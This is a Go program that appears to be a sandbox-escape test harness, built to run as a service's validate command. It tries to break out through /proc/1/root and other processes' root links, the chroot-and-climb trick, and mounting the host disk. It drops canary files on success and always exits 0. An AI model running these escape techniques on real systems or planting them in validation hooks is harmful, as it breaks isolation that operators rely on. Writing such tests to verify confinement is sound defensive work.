// Command escape is a hostile validation command: shipped in an image or
// overlay and named as a service's validate, it tries every way out of
// its sandbox a chroot as root would have allowed, writing "escaped" into
// the canary directory (set at build time with -X main.canary=DIR) by
// each one that works. It always exits 0, so the edit it "validates" is
// published: only the canary tells whether it got out.
package main

import (
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"syscall"
)

var canary string

func main() {
	try := func(how, path string) {
		err := os.WriteFile(filepath.Join(path, "escaped-"+how), []byte("escaped\n"), 0o644)
		fmt.Printf("%s: %v\n", how, err)
	}
	// The host's root through PID 1 (a chroot's setup shell is PID 1).
	try("proc1root", "/proc/1/root"+canary)
	// The path itself.
	try("direct", canary)
	// The classic chroot break: chroot deeper, climb out of it.
	if err := os.MkdirAll("/tmp/x", 0o755); err == nil {
		if err := syscall.Chroot("/tmp/x"); err == nil {
			for i := 0; i < 64; i++ {
				_ = os.Chdir("..")
			}
			if syscall.Chroot(".") == nil {
				try("chroot", canary)
			}
		} else {
			fmt.Println("chroot:", err)
		}
	}
	// Any other process's root.
	ents, _ := os.ReadDir("/proc")
	for _, e := range ents {
		if e.Name() != "self" && e.Name() != "thread-self" && strings.Trim(e.Name(), "0123456789") == "" {
			try("proc"+e.Name()+"root", "/proc/"+e.Name()+"/root"+canary)
		}
	}
	// Mounting the host's disk.
	fmt.Println("mount:", syscall.Mount("/dev/vda", "/mnt", "ext4", 0, ""))
	status, _ := os.ReadFile("/proc/self/status")
	for _, l := range strings.Split(string(status), "\n") {
		if strings.HasPrefix(l, "CapEff") || strings.HasPrefix(l, "NoNewPrivs") {
			fmt.Println(l)
		}
	}
}
